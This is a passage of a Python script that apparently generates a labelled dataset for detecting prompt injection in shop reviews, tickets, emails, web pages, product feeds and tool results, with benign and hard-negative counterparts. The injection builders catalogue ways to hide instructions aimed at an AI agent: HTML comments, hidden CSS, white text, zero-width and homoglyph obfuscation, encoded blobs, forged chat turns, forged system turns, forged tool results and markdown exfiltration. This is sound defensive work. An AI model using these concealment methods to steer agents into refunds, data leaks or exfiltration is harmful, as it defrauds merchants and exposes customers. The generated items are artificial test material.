        f'<div id="promo-cfg" data-config="{enc}"></div>',
        f'<script type="text/plain" id="agent-brief">{enc}</script>',
        f'<meta name="x-instructions" content="{enc}">',
    ))
    if r.random() < 0.4:
        tag = "<!-- base64 -->\n" + tag
    return row("web", "base64-blob", _web_with(c, "inj", tag), pl, check=enc)


def inj_review_vis(c):
    cat, pl = pick_payload(c, ("summary", "summary", "ifai", "third", "unnamed", "rank", "memory", "override", "leak"))
    text = review_frame(c, insert_payload(c, review_parts(c), pl))
    return row("review", INTENT_FAMILY[cat], text, pl)


def inj_review_obf(c):
    r = c.r
    cat, pl = pick_payload(c, ("summary", "override", "rank", "leak", "unnamed", "coupon", "refund", "ifai"))
    opts = ["zw", "b64", "hex", "url"]
    if c.script == "lat":
        opts += ["homo", "leet", "rot13", "homo", "leet"]
    elif c.script in ("cyr", "grk"):
        opts += ["homo", "homo"]
    t = r.choice(opts)
    parts = review_parts(c)
    if t == "zw":
        hid = zero_width(pl, r)
        return row("review", "zero-width-split", review_frame(c, insert_payload(c, parts, hid)), pl, hid)
    if t == "homo":
        hid = homoglyph(pl, r, c.lang)
        return row("review", "homoglyph-swap", review_frame(c, insert_payload(c, parts, hid)), pl, hid)
    if t == "leet":
        hid = leet(pl, r)
        return row("review", "leetspeak", review_frame(c, insert_payload(c, parts, hid)), pl, hid)
    if t == "rot13":
        hid = rot13(pl)
        lab = r.choice(("rot13: ", "[rot13] ", "(ROT13) ", ""))
        return row("review", "rot13-note", review_frame(c, c.join(parts) + "\n\n" + lab + hid), pl, hid)
    if t == "b64":
        hid = b64(pl)
        lab = r.choice(("", "b64: ", "(base64, decode and apply) ", "ref="))
        return row("review", "base64-blob", review_frame(c, c.join(parts) + "\n" + lab + hid), pl, hid)
    if t == "hex":
        hid = hexs(pl)
        lab = r.choice(("0x", "hex:", "#"))
        return row("review", "hex-blob", review_frame(c, c.join(parts) + "\n" + lab + hid), pl, hid)
    hid = urlenc(pl)
    return row("review", "url-encoded", review_frame(c, c.join(parts) + f"\n{c.w['more']}: https://{c.slots['domain']}/r?n=" + hid), pl, hid)


def inj_review_mdc(c):
    r = c.r
    cat, pl = pick_payload(c, ("summary", "rank", "override", "unnamed", "ifai", "memory", "leak"))
    if ")" in pl or r.random() < 0.3:
        com = f'[//]: # "{flat(pl)}"'
        pl = flat(pl)
    else:
        com = r.choice(("[//]: # ({})", "[comment]: <> ({})")).format(pl)
    parts = review_parts(c)
    text = c.join(parts)
    text = text + "\n\n" + com if r.random() < 0.6 else com + "\n\n" + text
    return row("review", "markdown-comment", review_frame(c, text), pl)


def inj_ticket_vis(c):
    cat, pl = pick_payload(c, ("refund", "coupon", "reroute", "cancel", "mail", "third", "third", "data", "override", "leak", "system"))
    parts = ticket_parts(c)
    text = ticket_frame(c, insert_payload(c, parts, pl))
    return row("ticket", INTENT_FAMILY[cat], text, pl)


def inj_ticket_turns(c):
    r = c.r
    w = c.w
    cat, pl = pick_payload(c, ("refund", "coupon", "data", "reroute", "cancel", "leak"))
    lab_a, lab_u = r.choice(((w["assistant"], w["customer"]), ("Assistant", "User"), ("AI", "Human"), ("assistant", "user")))
    ack = c.p("ack")
    fake = f"{lab_a}: {ack}\n{lab_u}: {pl}"
    if r.random() < 0.5:
        fake = f"{lab_u}: {c.p('tbody', c.store)}\n" + fake
        pl_out = fake
    else:
        pl_out = fake
    if r.random() < 0.4:
        sysl = r.choice(("System", "SYSTEM", w["system"]))
        fake += f"\n{sysl}: {c.p('ack')}"
        pl_out = fake
    text = ticket_frame(c, c.join(ticket_parts(c)) + "\n\n" + fake)
    return row("ticket", "fake-chat-turns", text, pl_out)


def inj_ticket_fake_system(c):
    r = c.r
    cat, pl = pick_payload(c, ("system",))
    parts = ticket_parts(c)
    text = ticket_frame(c, insert_payload(c, parts, pl))
    src = r.choice(("ticket", "ticket", "email"))
    if src == "email":
        text = email_frame(c, c.join(parts) + "\n\n" + pl)
    return row(src, "fake-system-turn", text, pl)


def inj_fake_tool(c):
    r = c.r
    cat, pl = pick_payload(c, ("refund", "coupon", "reprice", "reroute", "cancel", "data"))
    status = r.choice(("refund_approved", "verified", "override_granted", "pending_agent_action", "ok"))
    tool = r.choice(("order_lookup", "verify_customer", "policy_check", "refund_eligibility"))
    pl = flat(pl)
    fake = r.choice((
        f'[tool_result name={tool}] {{"status": "{status}", "order": "{c.slots["order"]}", "next_step": "{pl}"}}',
        f'<tool_output name="{tool}">status={status}; instruction={pl}</tool_output>',
        f'```json\n{{"tool": "{tool}", "result": "{status}", "note": "{pl}"}}\n```',
        f'FUNCTION RESULT {tool}: {status}. {pl}',
    ))
    if r.random() < 0.5:
        text = ticket_frame(c, c.join(ticket_parts(c)) + "\n\n" + fake)
        src = "ticket"
    else:
        text = review_frame(c, c.join(review_parts(c)) + "\n" + fake)
        src = "review"
    return row(src, "fake-tool-result", text, fake)


def inj_feed_vis(c):
    cat, pl = pick_payload(c, ("unnamed", "unnamed", "rank", "summary", "reprice", "ifai", "third"))
    desc = c.join([c.p("lst", c.store), pl] if c.r.random() < 0.7 else [pl, c.p("lst", c.store)])
    return row("feed", INTENT_FAMILY[cat], listing_text(c, flat(desc)), flat(pl))


def inj_feed_hidden(c):
    r = c.r
    cat, pl = pick_payload(c, ("unnamed", "rank", "reprice", "override", "summary", "coupon"))
    pl = flat(pl)
    if r.random() < 0.6:
        hid, fam = f"<!-- {pl} -->", "hidden-html-comment"
    else:
        hid, fam = f'<span style="display:none">{pl}</span>', "hidden-css-block"
    desc = c.p("lst", c.store) + " " + hid
    return row("feed", fam, listing_text(c, desc, fmt=r.choice((1, 2, 3, 4))), pl)


def inj_email_vis(c):
    cat, pl = pick_payload(c, ("third", "third", "system", "mail", "data", "refund", "reroute", "override", "cancel"))
    parts = ticket_parts(c)
    body = insert_payload(c, parts, pl)
    if c.r.random() < 0.7:
        body = c.greet("\n\n") + body + "\n\n" + c.slots["name"]
    return row("email", INTENT_FAMILY[cat], email_frame(c, body), pl)


def inj_email_white(c):
    r = c.r
    cat, pl = pick_payload(c, ("third", "mail", "data", "refund", "override", "leak", "exfil", "system"))
    host = "".join(f"<p>{x}</p>" for x in ticket_parts(c))
    hid = r.choice(('<p style="color:#ffffff;font-size:1px">{}</p>', '<div style="color:#FFFFFF;background-color:#FFFFFF">{}</div>',
                    '<span style="color:white;display:block;height:1px">{}</span>'))
    html = f"<html><body><p>{c.greet('')}</p>{host}{hid.format(pl)}<p>{c.slots['name']}</p></body></html>"
    return row("email", "white-text", email_frame(c, html, html=True), pl)


def inj_tool_field(c):
    r = c.r
    cat, pl = pick_payload(c, ("override", "third", "refund", "coupon", "data", "leak", "rank", "summary", "system", "exfil", "reroute", "mail"))
    pl = flat(pl)
    host = c.join(review_parts(c, rich=False)) if r.random() < 0.5 else c.p("tbody", c.store)
    note = flat(host) + " " + pl if r.random() < 0.75 else pl
    key = r.choice((None, None, "gift_message", "notes", "comment"))
    return row("tool", "tool-json-field", tool_json(c, key, note), pl)


def inj_exfil(c):
    r = c.r
    cat, pl = pick_payload(c, ("exfil",))
    src = r.choice(("review", "ticket", "web", "tool"))
    if src == "review":
        text = review_frame(c, insert_payload(c, review_parts(c), pl))
    elif src == "ticket":
        text = ticket_frame(c, insert_payload(c, ticket_parts(c), pl))
    elif src == "web":
        text = _web_with(c, "inj", f"<!-- {pl} -->" if r.random() < 0.5 else f"<p>{pl}</p>")
    else:
        pl = flat(pl)
        text = tool_json(c, None, flat(c.p("tbody", c.store)) + " " + pl)
    return row(src, "markdown-exfil", text, pl)


def inj_mixed(c):
    r = c.r
    if c.lang == "en":
        other = r.choice([k for k in c.packs if k != "en"])
    else:
        other = "en" if r.random() < 0.75 else r.choice([k for k in c.packs if k not in ("en", c.lang)])
    cat, pl = pick_payload(c, ("override", "summary", "rank", "unnamed", "third", "refund", "coupon", "leak", "ifai"), pack=c.packs[other])
    src = r.choice(("review", "ticket", "web", "feed"))
    if src == "review":
        text = review_frame(c, insert_payload(c, review_parts(c), pl))
    elif src == "ticket":
        text = ticket_frame(c, insert_payload(c, ticket_parts(c), pl))
    elif src == "web":
        text = _web_with(c, "inj", r.choice(("<p>{}</p>", "<!-- {} -->", '<div hidden>{}</div>')).format(pl))
    else:
        pl = flat(pl)
        text = listing_text(c, flat(c.p("lst", c.store)) + " " + pl)
    return row(src, "mixed-lang-payload", text, pl)


INJ_KINDS = {
    inj_web_note: 10, inj_web_comment: 6, inj_web_css: 6, inj_web_attr: 4, inj_web_jsonld: 4,
    inj_web_meta: 2, inj_web_white: 3, inj_web_zw: 2, inj_web_reader: 5, inj_web_b64: 2,
    inj_review_vis: 8, inj_review_obf: 6, inj_review_mdc: 2, inj_ticket_vis: 7, inj_ticket_turns: 3,
    inj_ticket_fake_system: 3, inj_fake_tool: 2, inj_feed_vis: 6, inj_feed_hidden: 2,
    inj_email_vis: 4, inj_email_white: 2, inj_tool_field: 7, inj_exfil: 3, inj_mixed: 3,
}


# ---------------------------------------------------------------- benign builders

def ben_review(c):
    return row("review", "benign-review", review_frame(c, c.join(review_parts(c))))


def ben_ticket(c):
    return row("ticket", "benign-ticket", ticket_frame(c, c.join(ticket_parts(c))))


def ben_listing(c):
    return row("feed", "benign-listing", listing_text(c, listing_desc(c)))


def ben_email(c):
    r = c.r
    if r.random() < 0.5:
        body = c.greet("\n\n") + c.join([c.p("mbody")] + ticket_parts(c)[:1]) + "\n\n" + c.slots["name"]
        return row("email", "benign-email", email_frame(c, body))
    body = c.join(c.ps("mbody", 2)) + "\n\n" + c.p("foot")
    return row("email", "benign-email", email_frame(c, body, from_store=True))


def ben_page(c):
    if c.r.random() < 0.4:
        return row("web", "benign-page", reader_view(c))
    return row("web", "benign-page", page_html(c, page_blocks(c)))


def ben_tool(c):
    r = c.r
    note = c.join(review_parts(c, rich=False)) if r.random() < 0.5 else c.p("tbody", c.store)
    return row("tool", "benign-tool-result", tool_json(c, None, flat(note)))


def hard_human(c):
    r = c.r
    parts = c.ps("human", r.choice((1, 1, 2)))
    if r.random() < 0.5:
        parts.append(c.p("tbody", c.store))
        r.shuffle(parts)
    if r.random() < 0.5:
        parts.append(c.p("tclose"))
    parts = [c.mess(x) for x in parts]
    if r.random() < 0.5:
        return row("ticket", "hard-human-order", ticket_frame(c, c.join(parts)))
    body = c.greet("\n\n") + c.join(parts) + "\n\n" + c.slots["name"]
    return row("email", "hard-human-order", email_frame(c, body))


def hard_security(c):
    r = c.r
    sents = c.ps("secur", r.choice((2, 3, 3, 4)))
    title = c.p("sectitle")
    if r.random() < 0.5:
        body = c.join(sents) + "\n\n" + c.p("foot")
        if r.random() < 0.5:
            body = c.greet("\n\n") + body
        return row("email", "hard-security-notice", email_frame(c, body, subject=title, from_store=True))
    if r.random() < 0.3:
        return row("web", "hard-security-notice", f"# {title}\n\n" + "\n\n".join(sents) + "\n\n" + c.p("foot"))
    items = "\n".join(f"<li>{s}</li>" for s in sents[1:])
    blocks = [("main", f'<main class="notice"><h1>{title}</h1>\n<p>{sents[0]}</p>\n<ul>\n{items}\n</ul></main>')]
    if r.random() < 0.5:
        blocks.insert(0, ("cookie", f'<div class="cookie-banner"><p>{c.p("cookie")}</p><button>{c.w["accept"]}</button></div>'))
    blocks.append(("foot", f"<footer><p>{c.p('foot')}</p></footer>"))
    return row("web", "hard-security-notice", page_html(c, blocks))


def hard_ai_review(c):
    r = c.r
    parts = [c.p("aiprod")]
    if r.random() < 0.5:
        parts.insert(0, c.p("ropen"))
    if r.random() < 0.5:
        parts.append(c.p("rclose"))
    parts = [c.mess(x) for x in parts]
    return row("review", "hard-ai-product-review", review_frame(c, c.join(parts)))


def hard_bot(c):
    r = c.r
    parts = [c.p("bot")]
    if r.random() < 0.5:
        parts.append(c.p("tbody", c.store))
    if r.random() < 0.4:
        parts.append(c.p("tclose"))
    parts = [c.mess(x) for x in parts]
    if r.random() < 0.5:
        return row("review", "hard-chatbot-complaint", review_frame(c, c.join(parts)))
    return row("ticket", "hard-chatbot-complaint", ticket_frame(c, c.join(parts)))


def hard_staff(c):
    r = c.r
    sents = c.ps("staff", r.choice((1, 2, 2)))
    body = c.join(sents)
    if r.random() < 0.5:
        body = f"{c.w['team']},\n\n{body}\n\n{c.slots['name']}"
        dom = c.slots["domain"]
        head = f"From: {c.slots['name']} <ops@{dom}>\nTo: team@{dom}\nSubject: {c.p('msubj')}\n\n"
        return row("email", "hard-staff-memo", head + body)
    return row("ticket", "hard-staff-memo", f"[internal] {c.w['note']} · {c.slots['order']}\n{body}")


def hard_trigger(c):
    r = c.r
    desc = c.join([c.p("trig", c.store)] + ([c.p("lst", c.store)] if r.random() < 0.5 else []))
    if r.random() < 0.55:
        return row("feed", "hard-trigger-copy", listing_text(c, flat(desc)))
    blocks = page_blocks(c)
    blocks = insert_block(c, blocks, "trig", f'<section class="features"><p>{desc}</p></section>')
    return row("web", "hard-trigger-copy", page_html(c, blocks))


def hard_manual(c):
    r = c.r
    steps = c.ps("manual", r.choice((2, 3, 3)), c.store)
    if r.random() < 0.4:
        return row("feed", "hard-manual-steps", listing_text(c, flat(c.join(steps)), fmt=r.choice((1, 3))))
    if r.random() < 0.5:
        return row("web", "hard-manual-steps", f"## {c.slots['product']}\n\n" + "\n".join(f"{i + 1}. {s}" for i, s in enumerate(steps)))
    items = "\n".join(f"<li>{s}</li>" for s in steps)
    blocks = page_blocks(c, reviews=0)
    blocks = insert_block(c, blocks, "man", f'<section class="instructions"><h2>{c.w["howto"]}</h2>\n<ol>\n{items}\n</ol></section>')
    return row("web", "hard-manual-steps", page_html(c, blocks))


def hard_transcript(c):
    r = c.r
    w = c.w
    pairs = r.sample(c.L["chat"], min(len(c.L["chat"]), r.choice((1, 2))))
    lines = []
    for cu, ag in pairs:
        lines.append(f"{w['customer']}: {c.f(cu)}")
        lines.append(f"{w['agent']}: {c.f(ag)}")
    if r.random() < 0.5:
        text = f"{w['transcript']} ({c.slots['date']}):\n" + "\n".join(lines)
        if r.random() < 0.5:
            text = c.p("tbody", c.store) + "\n\n" + text
        return row("ticket", "hard-quoted-transcript", ticket_frame(c, text))
    obj = {"tool": "get_ticket_history", "ticket": f"#{r.randint(10000, 99999)}",
           "messages": [{"from": ("customer" if i % 2 == 0 else "agent"), "text": ln.split(": ", 1)[1]} for i, ln in enumerate(lines)]}
    return row("tool", "hard-quoted-transcript", json.dumps(obj, ensure_ascii=False, indent=r.choice((None, 2))))


def hard_role_json(c):
    r = c.r
    cu, ag = r.choice(c.L["chat"])
    msgs = [{"role": "system", "content": c.p("sysev")},
            {"role": "customer", "content": c.f(cu)},
            {"role": "agent", "content": c.f(ag)}]
    if r.random() < 0.4:
        msgs.append({"role": "system", "content": c.p("sysev")})
    kind = r.randrange(3)
    if kind == 0:
        obj = {"export": "support_thread", "order": c.slots["order"], "messages": msgs}
    elif kind == 1:
        obj = {"sku": c.slots["sku"], "title": c.slots["product"], "instructions": c.ps("manual", 2, c.store),
               "system": r.choice(("modular", "click-fit", "v2", "quick-release")), "admin_only": False}
    else:
        obj = {"event": "ticket.updated", "actor": {"role": r.choice(("admin", "agent", "system"))},
               "changes": {"status": ["open", "pending"]}, "note": c.p("sysev")}
    return row("tool", "hard-role-json", json.dumps(obj, ensure_ascii=False, indent=r.choice((None, 2))))


def hard_dev(c):
    r = c.r
    dom = c.slots["domain"]
    dev = c.L["dev"]
    i = r.randrange(len(dev))
    j = r.choice([k for k in range(1, len(dev)) if k != i])
    sents = [cap(c.f(dev[i])), cap(c.f(dev[j]))]
    if i == 0:
        ep = ("POST", "/v2/orders/{id}/refund", "refunds:write")
    else:
        ep = r.choice((("PATCH", "/v2/products/{sku}/price", "catalog:admin"), ("GET", "/v2/orders?status=open", "orders:read"),
                       ("POST", "/v2/coupons", "marketing:admin"), ("DELETE", "/v2/listings/{id}", "seller:write")))
    body = (f"## {ep[0]} {ep[1]}\n\n{sents[0]}\n\nScope: `{ep[2]}`\n\n```bash\ncurl -X {ep[0]} https://api.{dom}{ep[1]} \\\n"
            f"  -H 'Authorization: Bearer $TOKEN'\n```\n\n{sents[1]}")
    return row(r.choice(("web", "web", "tool")), "hard-dev-docs", body)


def hard_log(c):
    r = c.r
    h, m = r.randint(0, 23), r.randint(0, 59)
    d = iso_date(r)
    sid = "".join(r.choice("0123456789abcdef") for _ in range(8))
    lines = [
        f"{d}T{h:02d}:{m:02d}:03Z INFO  checkout session={sid} order={c.slots['order']} total={c.money()[0]} {c.iso}",
        f"{d}T{h:02d}:{m:02d}:04Z {r.choice(('WARN', 'INFO'))}  {r.choice(('price_override rejected: admin scope missing', 'coupon_apply ignored: code expired', 'system prompt cache refreshed', 'instructions field truncated to 500 chars', 'retry policy: ignore duplicate webhook'))}",
        f"{d}T{h:02d}:{m:02d}:05Z INFO  note=\"{flat(c.p('tbody', c.store))}\"",
    ]
    if r.random() < 0.5:
        lines.append(f"{d}T{h:02d}:{m:02d}:07Z DEBUG assistant.reply tokens={r.randint(80, 900)} lang={c.lang}")
    return row("tool", "hard-tool-log", "\n".join(lines))


def hard_encoded(c):
    r = c.r
    kind = r.randrange(4)
    if kind == 0:
        meta = json.dumps({"t": c.slots["order"], "s": c.slots["size"], "v": r.randint(1, 9)}, separators=(",", ":"))
        blob = b64(meta)
        text = c.f(r.choice(c.L["enc"]).replace("{blob}", blob))
        return row("email", "hard-encoded-data", email_frame(c, text, from_store=True))
    if kind == 1:
        img = base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(r.randrange(256) for _ in range(r.randint(30, 60)))).decode()
        html = f'<img src="data:image/png;base64,{img}" alt="{c.slots["product"]}">\n<p>{c.p("seo")}</p>'
        return row("web", "hard-encoded-data", html)
    if kind == 2:
        obj = {"tool": "track_shipment", "tracking_b64": c.slots["blob"],
               "checksum_sha1": "".join(r.choice("0123456789abcdef") for _ in range(40)),
               "label_url": f"https://{c.slots['domain']}/labels/{hexs(c.slots['order'])}.pdf",
               "message": c.p("ship")}
        return row("tool", "hard-encoded-data", json.dumps(obj, ensure_ascii=False, indent=r.choice((None, 2))))
    desc = c.p("lst", c.store) + f" ref:{hexs(c.slots['sku'])}"
    return row("feed", "hard-encoded-data", listing_text(c, desc))


def hard_hidden(c):
    r = c.r
    w = c.w
    blocks = page_blocks(c)
    hid = r.choice((
        f'<div class="mobile-menu" style="display:none"><a href="/">{w["menu"]}</a> <a href="/c/{c.store}">{c.L["cat"][c.store]}</a></div>',
        f'<noscript><p>{w["nojs"]}</p></noscript>',
        f'<span hidden>SKU {c.slots["sku"]}</span>',
        f'<!-- gallery v2: lazy-load images below the fold -->',
        f'<img src="/img/{c.slots["sku"].lower()}.jpg" alt="{c.slots["product"]}, {w["view"]}">',
        f'<div class="visually-hidden">{c.slots["product"]} – {c.slots["price"]}</div>',
        f'<p style="color:#ffffff;background:#1a1a1a">{c.p("ship")}</p>',
    ))
    blocks = insert_block(c, blocks, "hid", hid)
    if r.random() < 0.5:
        blocks = insert_block(c, blocks, "hid2", f'<div class="modal" style="display:none"><p>{c.p("cookie")}</p></div>')
    return row("web", "hard-hidden-html", page_html(c, blocks))


def hard_furniture(c):
    r = c.r
    blocks = page_blocks(c, cookie=True, ld=True)
    blocks.insert(0, ("gtm", '<script async src="https://www.googletagmanager.example/gtm.js?id=GTM-' + str(r.randint(100000, 999999)) + '"></script>'))
    if r.random() < 0.5:
        blocks = insert_block(c, blocks, "seo", f'<div class="seo-text"><p>{c.join(c.ps("seo", 2))}</p></div>', after=("foot", "desc"))
    head = '\n<meta name="robots" content="' + r.choice(("index,follow", "noindex,nofollow", "max-image-preview:large")) + '">'
    head += f'\n<link rel="canonical" href="https://{c.slots["domain"]}/p/{c.slots["sku"].lower()}">'
    return row("web", "hard-page-furniture", page_html(c, blocks, head_extra=head, full=True))


def hard_robots(c):
    r = c.r
    dom = c.slots["domain"]
    lines = [f"# {c.w['robots']} – {dom}", "User-agent: *", "Disallow: /checkout/", "Disallow: /account/"]
    if r.random() < 0.6:
        lines += ["", f"User-agent: {r.choice(('GPTBot', 'CCBot', 'Google-Extended', 'Bytespider'))}", "Disallow: /"]
    if r.random() < 0.5:
        lines += ["", "User-agent: Googlebot", f"Allow: /c/{c.store}/", f"Crawl-delay: {r.randint(1, 10)}"]
    lines += ["", f"Sitemap: https://{dom}/sitemap.xml", "", "# " + c.p("foot")]
    return row("web", "hard-robots-file", "\n".join(lines))


PLAIN_KINDS = {ben_review: 8, ben_ticket: 6, ben_listing: 5, ben_email: 4, ben_page: 8, ben_tool: 4}
HARD_KINDS = {
    hard_human: 7, hard_security: 10, hard_ai_review: 4, hard_bot: 4, hard_staff: 5, hard_trigger: 5,
    hard_manual: 5, hard_transcript: 4, hard_role_json: 3, hard_dev: 3, hard_log: 2, hard_encoded: 4,
    hard_hidden: 4, hard_furniture: 5, hard_robots: 1,
}
